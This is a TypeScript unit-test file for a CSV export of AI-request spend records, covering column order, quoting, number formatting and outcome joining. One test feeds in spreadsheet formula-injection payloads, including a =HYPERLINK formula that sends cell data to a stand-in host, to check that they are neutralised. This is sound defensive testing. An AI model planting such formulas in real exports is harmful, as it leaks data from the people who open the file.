import * as assert from 'node:assert/strict';
import { parseCsv } from '../../src/core/replay/outcomeMatrix';
import { lastVerdicts, SPEND_CSV_HEADER, spendCsv, spendCsvFileName } from '../../src/core/spend/csvExport';
import type { OutcomeLine, SettleLine } from '../../src/core/spend/spendRecord';

function settle(requestId: string, overrides: Partial<SettleLine> = {}): SettleLine {
  return {
    type: 'settle',
    requestId,
    at: Date.UTC(2025, 5, 1, 12, 30, 15, 250),
    task: 'explain',
    language: 'typescript',
    model: 'gpt-4.1-mini',
    provider: 'openai',
    tokensIn: 1200,
    tokensOut: 340,
    estimated: false,
    usd: 0.00102,
    latencyMs: 850,
    attempts: 1,
    fallbackUsed: false,
    status: 'ok',
    tags: ['cheap'],
    ...overrides,
  };
}

function outcome(requestId: string, kind: string, at: number): OutcomeLine {
  return { type: 'outcome', requestId, kind, at };
}

/** The data rows as records keyed by header name. */
function records(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv);
  assert.deepEqual(header, [...SPEND_CSV_HEADER]);
  return rows.map((row) => {
    assert.equal(row.length, header.length, `row ${row.join(',')} has every column`);
    return Object.fromEntries(header.map((name, i) => [name, row[i]]));
  });
}

describe('spend CSV export', () => {
  it('writes the header in the documented order, and only the header for an empty ledger', () => {
    assert.equal(
      spendCsv([], []),
      'time_utc,request_id,task,language,model,provider,tokens_in,tokens_out,estimated,usd,counterfactual_usd,premium_requests,latency_ms,attempts,fallback_used,status,outcome\r\n',
    );
  });

  it('writes one row per settled request, in ledger order, with CRLF line ends', () => {
    const csv = spendCsv(
      [
        settle('r1'),
        settle('r2', { model: 'gpt-4.1', tokensIn: 0, tokensOut: 0, estimated: true, usd: 0, counterfactualUsd: 0.5, premiumRequests: 1, attempts: 2, fallbackUsed: true, status: 'error' }),
      ],
      [],
    );
    assert.equal(csv.split('\r\n').length, 4, 'header, two rows, and the final line end');
    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /[\r\n]/, 'no bare line feeds');
    const [first, second] = records(csv);
    assert.deepEqual(first, {
      time_utc: '2025-06-01T12:30:15.250Z',
      request_id: 'r1',
      task: 'explain',
      language: 'typescript',
      model: 'gpt-4.1-mini',
      provider: 'openai',
      tokens_in: '1200',
      tokens_out: '340',
      estimated: 'false',
      usd: '0.00102',
      counterfactual_usd: '',
      premium_requests: '',
      latency_ms: '850',
      attempts: '1',
      fallback_used: 'false',
      status: 'ok',
      outcome: '',
    });
    assert.equal(second.request_id, 'r2');
    assert.equal(second.estimated, 'true');
    assert.equal(second.usd, '0');
    assert.equal(second.counterfactual_usd, '0.5');
    assert.equal(second.premium_requests, '1');
    assert.equal(second.attempts, '2');
    assert.equal(second.fallback_used, 'true');
    assert.equal(second.status, 'error');
  });

  it('writes money in plain decimals, without exponents or float noise', () => {
    const [tiny, noisy, tenth] = records(spendCsv([settle('a', { usd: 1e-7 }), settle('b', { usd: 0.1 + 0.2 }), settle('c', { usd: 0.1, latencyMs: 12.5 })], []));
    assert.equal(tiny.usd, '0.0000001');
    assert.equal(noisy.usd, '0.3');
    assert.equal(tenth.usd, '0.1');
    assert.equal(tenth.latency_ms, '12.5');
  });

  it('joins the last verdict on each request; verdicts on unknown requests are ignored', () => {
    const outcomes = [
      outcome('r1', 'accepted', 10),
      outcome('r2', 'discarded', 11),
      outcome('r1', 'undone', 20),
      outcome('r2', 'accepted', 5), // older than the discard, even though it comes later
      outcome('r3', 'thumbs-up', 30),
      outcome('r3', 'thumbs-down', 30), // same time: the later line wins
      outcome('ghost', 'accepted', 40),
    ];
    assert.deepEqual([...lastVerdicts(outcomes)].map(([id, o]) => `${id}:${o.kind}`), ['r1:undone', 'r2:discarded', 'r3:thumbs-down', 'ghost:accepted']);
    const rows = records(spendCsv([settle('r1'), settle('r2'), settle('r3'), settle('r4')], outcomes));
    assert.deepEqual(rows.map((r) => `${r.request_id}:${r.outcome}`), ['r1:undone', 'r2:discarded', 'r3:thumbs-down', 'r4:']);
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), and nothing else', () => {
    const csv = spendCsv([settle('r1', { language: 'c,cpp', model: 'my "best" model', task: 'two\nlines', provider: 'cr\rhere' })], []);
    const dataLine = csv.slice(csv.indexOf('\r\n') + 2);
    assert.ok(dataLine.includes(',"two\nlines","c,cpp","my ""best"" model","cr\rhere",'), dataLine);
    assert.ok(dataLine.startsWith('2025-06-01T12:30:15.250Z,r1,'), 'plain fields stay unquoted');
    const [row] = records(csv);
    assert.equal(row.language, 'c,cpp');
    assert.equal(row.model, 'my "best" model');
    assert.equal(row.task, 'two\nlines');
    assert.equal(row.provider, 'cr\rhere');
  });

  it('keeps formula-like text from running in a spreadsheet', () => {
    const hostile = {
      model: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
      provider: '+cmd',
      language: '-2+3',
      task: '@SUM(A1:A9)',
      requestId: '\tr1',
    };
    const [row] = records(spendCsv([settle('x', hostile)], [outcome('\tr1', '\r=1+1', 1)]));
    assert.equal(row.model, `'${hostile.model}`);
    assert.equal(row.provider, "'+cmd");
    assert.equal(row.language, "'-2+3");
    assert.equal(row.task, "'@SUM(A1:A9)");
    assert.equal(row.request_id, "'\tr1");
    assert.equal(row.outcome, "'\r=1+1");
    const [plain] = records(spendCsv([settle('y', { model: 'a=b', provider: 'x-1', language: "'quoted" })], []));
    assert.equal(plain.model, 'a=b', 'only a leading character counts');
    assert.equal(plain.provider, 'x-1');
    assert.equal(plain.language, "'quoted");
  });

  it('round-trips through a CSV parser: every value comes back', () => {
    const lines: SettleLine[] = [
      settle('a1', { usd: 0.000123456789, counterfactualUsd: 0.0042, premiumRequests: 0.33, latencyMs: 1234.5 }),
      settle('b2', { model: 'claude, "sonnet"', language: 'python\r\nx', tokensIn: 987654321, status: 'cancelled', estimated: true }),
      settle('c3', { at: Date.UTC(1999, 11, 31, 23, 59, 59, 999), provider: 'vscode-lm', status: 'orphaned', attempts: 0, fallbackUsed: true }),
    ];
    const rows = records(spendCsv(lines, [outcome('b2', 'partially-accepted', 1)]));
    assert.equal(rows.length, lines.length);
    rows.forEach((row, i) => {
      const line = lines[i];
      assert.equal(Date.parse(row.time_utc), line.at);
      assert.equal(row.request_id, line.requestId);
      assert.equal(row.task, line.task);
      assert.equal(row.language, line.language);
      assert.equal(row.model, line.model);
      assert.equal(row.provider, line.provider);
      assert.equal(Number(row.tokens_in), line.tokensIn);
      assert.equal(Number(row.tokens_out), line.tokensOut);
      assert.equal(row.estimated === 'true', line.estimated);
      assert.ok(Math.abs(Number(row.usd) - line.usd) < 1e-10, `${row.usd} ≈ ${line.usd}`);
      assert.equal(row.counterfactual_usd === '' ? undefined : Number(row.counterfactual_usd), line.counterfactualUsd);
      assert.equal(row.premium_requests === '' ? undefined : Number(row.premium_requests), line.premiumRequests);
      assert.equal(Number(row.latency_ms), line.latencyMs);
      assert.equal(Number(row.attempts), line.attempts);
      assert.equal(row.fallback_used === 'true', line.fallbackUsed);
      assert.equal(row.status, line.status);
    });
    assert.deepEqual(rows.map((r) => r.outcome), ['', 'partially-accepted', '']);
  });

  it('names the file after the local date', () => {
    assert.equal(spendCsvFileName(new Date(2025, 0, 9, 23, 59)), 'coderoute-spend-2025-01-09.csv');
  });
});
